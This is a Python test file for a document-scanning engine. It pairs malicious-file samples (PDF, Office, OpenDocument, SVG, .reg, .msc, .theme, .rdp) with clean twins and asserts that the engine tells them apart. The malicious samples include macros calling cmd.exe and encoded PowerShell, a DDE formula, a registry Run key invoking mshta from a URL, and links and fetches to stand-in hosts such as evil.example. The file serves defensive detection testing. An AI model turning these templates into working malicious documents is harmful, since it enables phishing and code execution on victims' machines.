"""Techniques of public lists, one made sample each, and an honest twin that is the same but for the attack.

Sources: MITRE ATT&CK T1204, T1566, T1187, T1218; PayloadsAllTheThings; JPCERT/CC 2023 (web archives
in PDF); Mainka et al. 2021 (shadow attacks).
"""

from __future__ import annotations

import io
import zipfile

import pytest

from safecare.examine.api import Verdicts
from safecare.examine.engine import Engine
from safecare.testing.bombs.make import mail, ooxml, pdf, pdf_stream

ENGINE = Engine()
SHELL = b'new ActiveXObject("WScript.Shell").Run("calc")'


def odt(content: bytes, **modules: bytes) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        for name, raw in modules.items():
            archive.writestr(f"Basic/Standard/{name}.xml", raw)
    return out.getvalue()


def relations(kind: str, target: str) -> bytes:
    return (
        f'<Relationships><Relationship Id="r1" Type="http://x/{kind}" Target="{target}" TargetMode="External"/>'
        "</Relationships>"
    ).encode()


def page(*objects: bytes, root: bytes = b"") -> bytes:
    pages = (b"<</Type/Catalog/Pages 2 0 R" + root + b">>", b"<</Type/Pages/Kids[3 0 R]/Count 1>>")
    return pdf(*pages, b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>", *objects)


def layer(prints: bytes, shows: bytes) -> bytes:
    states = (b"<</Print<</PrintState/", prints, b">>/View<</ViewState/", shows, b">>>>")
    return b"<</Type/OCG/Name(a)/Usage" + b"".join(states) + b">>"


def slide(target: str) -> bytes:
    shown = b'<p:sld><a:hlinkMouseOver r:id="r1" action="ppaction://program"/></p:sld>'
    return ooxml(
        **{"ppt__slides__slide1.xml": shown, "ppt__slides___rels__slide1.xml.rels": relations("hyperlink", target)}
    )


def console(command: bytes) -> bytes:
    return (
        b'<?xml version="1.0"?><MMC_ConsoleFile><Task Type="CommandLine" Command="' + command + b'"/></MMC_ConsoleFile>'
    )


def packed_odt(content: bytes, module: bytes, place: str = "Basic/Standard/a.xml", *, office: bool = False) -> bytes:
    """Return a document whose first member, which tells its kind, is packed, as common writers of archives do."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr("content.xml", content)
        archive.writestr(place, module)
        archive.writestr("META-INF/manifest.xml", "<manifest:manifest/>")
        if office:
            archive.writestr("[Content_Types].xml", "<Types/>")
    return out.getvalue()


LISTENER = (
    b'<office:document-content><script:event-listener script:event-name="dom:load" '
    b'xlink:href="vnd.sun.star.script:%s"/></office:document-content>'
)
FLAT = (
    b'<?xml version="1.0"?><office:document xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0">'
    b"%s</office:document>"
)
LIBRARY = b"<libraryDescription><simpleLocation><url>%s</url></simpleLocation></libraryDescription>"
SEARCH = b'<html><script>location="%s"</script></html>'
ARCHIVE = (
    b"MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\n\r\n"
    b"--b\r\nContent-Type: application/x-mso\r\n\r\n"
)
SVG = b'<svg xmlns="http://www.w3.org/2000/svg">%s</svg>'
UPDATE = b'ADBE.Reader_Value_New_Version_URL = "http://%s/special/update";'

CASES: dict[str, tuple[str, bytes, bytes]] = {
    "web archive in a PDF": ("a.doc", page() + b"\r\n" + ARCHIVE, page() + b"\r\nMIME-Version: 1.0\r\n"),
    "web archive in a PDF, its lines joined by lone returns, its kind told first": (
        "a.doc",
        page() + b"\rContent-Type: multipart/related; boundary=b\rMIME-Version: 1.0 \r\nContent-Location: file:///a",
        page() + b"\rContent-Type: text/plain\rMIME-Version: 1.0\r",
    ),
    "layers that only print": (
        "a.pdf",
        page(layer(b"ON", b"OFF"), layer(b"OFF", b"ON")),
        page(layer(b"ON", b"OFF"), layer(b"ON", b"ON")),
    ),
    "a false update of Adobe": (
        "a.pdf",
        page(pdf_stream(UPDATE % b"evil.example", b""), root=b"/OpenAction<</S/JavaScript/JS 4 0 R>>"),
        page(pdf_stream(UPDATE % b"cgi.adobe.com", b""), root=b"/OpenAction<</S/JavaScript/JS 4 0 R>>"),
    ),
    "ribbon loaded from outside": (
        "a.docx",
        ooxml(customUI__customUI_xml=b"", **{"customUI__a.xml": b'<customUI onLoad="https://evil.example/a!b"/>'}),
        ooxml(**{"customUI__a.xml": b'<customUI onLoad="Module1.OnLoad"/>'}),
    ),
    "picture on a public share": (
        "a.docx",
        ooxml(**{"word___rels__document.xml.rels": relations("image", r"\\8.8.8.8\a\b.png")}),
        ooxml(**{"word___rels__document.xml.rels": relations("image", r"\\10.1.2.3\a\b.png")}),
    ),
    "slide that starts a program": ("a.pptx", slide("powershell%20-c%20iex"), slide("viewer.exe")),
    "formula that starts a program": (
        "a.xlsx",
        ooxml(**{"xl__worksheets__sheet1.xml": b"<c><f>cmd|'/c calc'!A0</f></c>"}),
        ooxml(**{"xl__worksheets__sheet1.xml": b"<c><f>SUM(A1:A2)</f></c><c><v>cmd | text</v></c>"}),
    ),
    "OpenDocument macro": (
        "a.odt",
        odt(
            LISTENER % b"Standard.a.Main?language=Basic", a=b'Sub Main\nShell("cmd.exe /c powershell -enc A")\nEnd Sub'
        ),
        odt(LISTENER % b"Standard.a.Main?language=Basic", a=b'Sub Main\nMsgBox "Bonjour"\nEnd Sub'),
    ),
    "OpenDocument that calls Python": (
        "a.odt",
        odt(LISTENER % b"../../../program/python-core/pydoc.py$tempfilepager(1,a)?language=Python"),
        odt(LISTENER % b"own.py$main?language=Basic"),
    ),
    "OpenDocument macro, its kind packed": (
        "a.odt",
        packed_odt(
            LISTENER % b"Standard.a.Main?language=Basic&amp;location=document", b'Sub Main\nShell("calc.exe",1)'
        ),
        packed_odt(LISTENER % b"Standard.a.Main?language=Basic&amp;location=document", b'Sub Main\nMsgBox "Bonjour"'),
    ),
    "OpenDocument macro, with a member of Office beside": (
        "a.odt",
        packed_odt(LISTENER % b"Standard.a.Main?language=Basic", b'Shell("calc.exe",1)', office=True),
        packed_odt(LISTENER % b"Standard.a.Main?language=Basic", b'MsgBox "Bonjour"', office=True),
    ),
    "OpenDocument macro that only exists": (
        "a.odt",
        packed_odt(
            LISTENER % b"Standard.a.Main?language=Basic",
            b'x = createUnoService("com.sun.star.system.SystemShellExecute")',
        ),
        packed_odt(b"<office:document-content/>", b'x = createUnoService("com.sun.star.system.SystemShellExecute")'),
    ),
    "OpenDocument macro in Python": (
        "a.ods",
        packed_odt(
            (LISTENER % b"a.py$go?language=Python&amp;location=document").replace(b"dom:load", b"office:new"),
            b"import os\ndef go(*x):\n    os.system('calc')",
            "Scripts/python/a.py",
        ),
        packed_odt(
            (LISTENER % b"a.py$go?language=Python&amp;location=document").replace(b"dom:load", b"office:new"),
            b"def go(*x):\n    total()",
            "Scripts/python/a.py",
        ),
    ),
    "OpenDocument that fetches": (
        "a.odt",
        packed_odt(
            LISTENER % b"Standard.a.Main?language=Basic",
            b'd.loadComponentFromURL("https://evil.example/a.odt", "_blank", 0, x())',
        ),
        packed_odt(
            LISTENER % b"Standard.a.Main?language=Basic",
            b'd.loadComponentFromURL("private:factory/scalc", "_blank", 0, x())',
        ),
    ),
    "OpenDocument that calls Python, spelled in numbers": (
        "a.odt",
        odt(LISTENER % b"%2e%2e%2Fprogram/a.py&#36;b(1,'c')?language=Python&amp;location=share"),
        odt(LISTENER % b"forms/a.py$fill?language=Python&amp;location=document"),
    ),
    "flat OpenDocument that calls Python": (
        "a.fodt",
        FLAT % (LISTENER % b"../../../program/a.py$b(1,c)?language=Python&amp;location=share"),
        FLAT % (LISTENER % b"a.py$fill?language=Python&amp;location=document"),
    ),
    "settings with a command": (
        "a.SettingContent-ms",
        b"<PCSettings><SearchableContent><DeepLink>%windir%\\cmd /c a</DeepLink></SearchableContent></PCSettings>",
        b"<PCSettings><SearchableContent><DeepLink></DeepLink></SearchableContent></PCSettings>",
    ),
    "library on a foreign share": (
        "a.library-ms",
        LIBRARY % rb"\\files.evil.example\a",
        LIBRARY % b"knownfolder:{FDD39AD0-238F-46AF-ADB4-6C85480369C7}",
    ),
    "console with a command": ("a.msc", console(b"C:\\Windows\\System32\\cmd.exe"), console(b"notepad.exe")),
    "console with a script": (
        "a.msc",
        b"<MMC_ConsoleFile><String>res://apds.dll/redirect.html?target=javascript:eval(1)</String></MMC_ConsoleFile>",
        b"<MMC_ConsoleFile><String>Favorites</String></MMC_ConsoleFile>",
    ),
    "theme on a foreign share": (
        "a.theme",
        b"[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nWallpaper=\\\\a.evil.example\\b\\c.jpg\r\n",
        b"[Theme]\r\nDisplayName=a\r\n[Control Panel\\Desktop]\r\nWallpaper=%SystemRoot%\\web\\a.jpg\r\n",
    ),
    "registry that starts a program": (
        "a.reg",
        b'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\a\\CurrentVersion\\Run]\r\n"a"="mshta http://a.b"\r\n',
        b'Windows Registry Editor Version 5.00\r\n[HKEY_CURRENT_USER\\a\\Viewer]\r\n"a"="C:\\\\viewer\\\\mshta"\r\n',
    ),
    "style sheet with a script": (
        "a.xsl",
        b'<stylesheet xmlns:ms="urn:x"><ms:script language="JScript">' + SHELL + b"</ms:script></stylesheet>",
        b'<stylesheet xmlns:ms="urn:x"><ms:script language="JScript">var a = 1</ms:script></stylesheet>',
    ),
    "page that searches a foreign share": (
        "a.html",
        SEARCH % rb"search-ms:query=a&crumb=location:\\\\a.evil.example@SSL\\b",
        SEARCH % b"https://chu.example/search?query=a&location=b",
    ),
    "drawing with a foreign page": (
        "a.svg",
        SVG % b'<foreignObject><iframe src="https://evil.example/login"/></foreignObject>',
        SVG % b"<foreignObject><p>Text</p></foreignObject>",
    ),
    "drawing that carries an archive": (
        "a.svg",
        SVG % b'<a href="data:application/zip;base64,UEsDBBQAAAAIAAAAAAAAAAAAAAAAAAAAAAA" download="a.zip"/>',
        SVG % b'<image href="data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABAAAA"/>',
    ),
}


@pytest.mark.parametrize("name", CASES)
def test_the_attack_is_found_and_its_twin_is_clean(name: str) -> None:
    file, attack, twin = CASES[name]
    found = ENGINE.judge(attack, file)
    assert found.verdict in (Verdicts.SUSPICIOUS, Verdicts.MALICIOUS), found
    honest = ENGINE.judge(twin, file)
    assert honest.verdict is Verdicts.CLEAN, honest


@pytest.mark.parametrize(
    ("name", "raw"),
    [
        ("a.rdp", b"full address:s:evil.example\r\nremoteapplicationprogram:s:||calc\r\ndrivestoredirect:s:*\r\n"),
        ("a.jnlp", b'<jnlp codebase="http://a.example"><security><all-permissions/></security></jnlp>'),
        ("a.appref-ms", "http://a.example/b.application#b, Culture=neutral".encode("utf-16")),
    ],
)
def test_what_hospitals_use_themselves_alarms_only_by_mail(name: str, raw: bytes) -> None:
    assert ENGINE.judge(raw, name).verdict is Verdicts.CLEAN
    assert ENGINE.judge(mail([(name, raw)]), "a.eml").verdict is not Verdicts.CLEAN
